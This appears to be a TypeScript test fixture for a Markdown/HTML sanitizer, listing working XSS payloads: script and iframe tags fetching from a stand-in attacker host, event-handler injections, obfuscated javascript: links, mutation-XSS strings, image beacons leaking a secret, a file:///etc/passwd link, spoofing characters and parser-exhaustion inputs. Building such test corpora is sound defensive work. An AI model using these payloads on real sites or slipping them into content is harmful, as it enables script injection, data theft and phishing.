/**
 * Texts that would like to be more than text. `evil`: the address of a host that must never be asked for anything. Each one names
 * what it tries; none needs another to work.
 */
export interface Attack {
  readonly name: string;
  readonly text: string;
}

const list = (entries: Readonly<Record<string, string>>): readonly Attack[] =>
  Object.entries(entries).map(([name, text]) => ({ name, text }));

export const attacks = (evil: string): readonly Attack[] => [
  ...tags(evil),
  ...handlers(evil),
  ...links(evil),
  ...loads(evil),
  ...mutations(evil),
  ...disguises(evil),
];

/** Elements that run, load or send. */
const tags = (evil: string): readonly Attack[] =>
  list({
    script: "<script>window.P=1</script>",
    "script from elsewhere": `<script src="${evil}/p.js"></script>`,
    "module script": `<script type=module>import("${evil}/m.js")</script>`,
    "script in capitals, unclosed": `<SCRIPT SRC=${evil}/u.js>`,
    "iframe with a document": '<iframe srcdoc="<script>parent.P=1</script>"></iframe>',
    "iframe from elsewhere": `<iframe src="${evil}/frame"></iframe>`,
    "iframe with a script address": '<iframe src="javascript:parent.P=1"></iframe>',
    object: `<object data="${evil}/o"></object>`,
    "object with a script address": '<object data="javascript:window.P=1"></object>',
    embed: `<embed src="${evil}/e">`,
    form: `<form action="${evil}/f"><button>ok</button></form>`,
    "button with a form of its own": `<button formaction="${evil}/b" form=x>ok</button>`,
    base: `<base href="${evil}/">`,
    refresh: `<meta http-equiv="refresh" content="0;url=${evil}/r">`,
    "a policy of its own": `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
    "style sheet": `<link rel=stylesheet href="${evil}/s.css">`,
    prefetch: `<link rel=prefetch href="${evil}/pf"><link rel=dns-prefetch href="${evil}"><link rel=preconnect href="${evil}">`,
    "style element": `<style>@import "${evil}/i.css"; body{background:url(${evil}/b.png)}</style>`,
    "style attribute": `<p style="background:url(${evil}/p.png);position:fixed;inset:0">x</p>`,
    template: "<template><script>window.P=1</script></template>",
    portal: `<portal src="${evil}/portal"></portal>`,
    "frame set": `<frameset><frame src="${evil}/fs"></frameset>`,
    applet: `<applet code="${evil}/a" codebase="${evil}"></applet>`,
    isindex: `<isindex action="${evil}/i" prompt=x>`,
  });

/** Attributes that run. */
const handlers = (evil: string): readonly Attack[] =>
  list({
    "broken picture": '<img src=x onerror="window.P=1">',
    "drawing that loads": "<svg/onload=window.P=1>",
    "drawing that begins": "<svg><animate onbegin=window.P=1 attributeName=x dur=1s>",
    "field with the focus": "<input autofocus onfocus=window.P=1>",
    "details that open": "<details open ontoggle=window.P=1><summary>x</summary></details>",
    "video without a source": '<video><source onerror="window.P=1"></video>',
    "audio without a source": "<audio src=x onerror=window.P=1>",
    marquee: "<marquee onstart=window.P=1>x</marquee>",
    "body that loads": "<body onload=window.P=1>",
    "pointer over it": '<div onpointerenter="window.P=1" style="position:fixed;inset:0">x</div>',
    "link with a ping": `<a href="#" ping="${evil}/ping" onclick="window.P=1">x</a>`,
    "attribute without quotes": "<img src=`x` onerror=window.P=1 //",
  });

/** Links of Markdown with schemes that run, and what hides them. */
const links = (evil: string): readonly Attack[] =>
  list({
    "script link": "[x](javascript:window.P=1)",
    "script link in mixed case": "[x](jAvAsCrIpT:window.P=1)",
    "script link with entities": "[x](&#106;avascript&colon;window.P=1)",
    "script link with a tab": "[x](java&Tab;script:window.P=1)",
    "script link with a line end": "[x](<java\nscript:window.P=1>)",
    "script link behind a control character": "[x](\u0001javascript:window.P=1)",
    "script link with percent signs": "[x](javascript%3Awindow.P=1)",
    "script link by reference": "[x][r]\n\n[r]: javascript:window.P=1",
    "script link in angles": "<javascript:window.P=1>",
    "script link around a picture": "[![x](javascript:window.P=1)](javascript:window.P=1)",
    "page as data": "[x](data:text/html,<script>1</script>)",
    "page as data in base 64": "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuUD0xPC9zY3JpcHQ+)",
    "basic script": "[x](vbscript:msgbox(1))",
    "file on the machine": "[x](file:///etc/passwd)",
    "blob of the page": "[x](blob:http://127.0.0.1/0)",
    "title that leaves its quotes": `[x](http://127.0.0.1/ "a" onmouseover="window.P=1)`,
    "address that leaves its quotes": `[x](http://127.0.0.1/"onmouseover="window.P=1)`,
    "formula with a link": "$\\href{javascript:window.P=1}{x}$",
    diagram: '```mermaid\ngraph TD; A-->B; click A "javascript:window.P=1"\n```',
    "comment with a tag": "<!-- --><img src=x onerror=window.P=1><!-- -->",
    "name of a code block": '```"><img src=x onerror=window.P=1>\nx\n```',
    "own protocol": `[x](//${new URL(evil).host}/rel) ![x](\\\\${new URL(evil).host}\\img)`,
  });

/** What a page fetches by itself. */
const loads = (evil: string): readonly Attack[] =>
  list({
    picture: `![x](${evil}/p.png?q=SECRET)`,
    "picture by reference": `![x][r]\n\n[r]: ${evil}/ref.png`,
    "picture as a tag": `<img src="${evil}/p?q=1">`,
    "picture in several sizes": `<img srcset="${evil}/1.png 1x, ${evil}/2.png 2x">`,
    "picture of the video": `<video poster="${evil}/poster.png" src="${evil}/v.mp4" autoplay></video>`,
    "picture in a picture": `<picture><source srcset="${evil}/s.png"><img></picture>`,
    "picture in a drawing": `<svg><image href="${evil}/svg.png" /><use href="${evil}/u.svg#x" /></svg>`,
    "background of a table": `<table background="${evil}/t.png"><tr><td>x</td></tr></table>`,
    "sound and track": `<audio autoplay src="${evil}/a.mp3"><track src="${evil}/t.vtt"></audio>`,
    "terminal link": `\u001b]8;;${evil}/osc\u0007click\u001b]8;;\u0007 \u001b[31mred\u001b[0m`,
  });

/** What a careless cleaner turns into something else. */
const mutations = (evil: string): readonly Attack[] =>
  list({
    "drawing in a formula":
      '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=window.P=1>">',
    "style in a drawing": '<svg></p><style><a id="</style><img src=x onerror=window.P=1>">',
    "no script": '<noscript><p title="</noscript><img src=x onerror=window.P=1>">',
    "text area": "<textarea></textarea><img src=x onerror=window.P=1></textarea>",
    "raw text": '<xmp><p title="</xmp><img src=x onerror=window.P=1>">',
    "foreign object": `<svg><foreignObject><iframe src="${evil}/fo"></iframe></foreignObject></svg>`,
    "name that hides another": "<a id=defaultView><a id=defaultView name=P><form name=P><input name=attributes></form>",
    "end of the page": "</div></main></body></html><script>window.P=1</script>",
    "nothing but openings": "<a<b<c<d<!--<![CDATA[<?xml <script",
    "null in the middle": "<scr\u0000ipt>window.P=1</scr\u0000ipt>",
  });

/** What looks like something else. */
const disguises = (evil: string): readonly Attack[] =>
  list({
    "reversed name": "report\u202egnp.exe",
    "isolated order": "a\u2066b\u2067c\u2069d",
    "link that turns round": `[\u202emoc.elpmaxe](${evil}/rtl)`,
    "letters of another script": "[аpple.com](https://xn--pple-43d.com/)",
    "no width": "al\u200bert\u00adx\ufeff",
  });

/** Texts that cost far more to read than to write. */
export const bombs: readonly Attack[] = list({
  "quotes in quotes": `${">".repeat(10_000)} end`,
  "lists in lists": `${"- ".repeat(10_000)}end`,
  "a word without an end": `${"a.".repeat(50_000)}@`,
  "one line of half a million": `${"x".repeat(500_000)} end`,
  brackets: `${"[".repeat(20_000)} end`,
  "emphasis in emphasis": `${"*a **b _c ".repeat(4_000)} end`,
  "a wide table": `|${"a|".repeat(1_000)}\n|${"-|".repeat(1_000)}\n|${"b|".repeat(1_000)}\n\nend`,
});
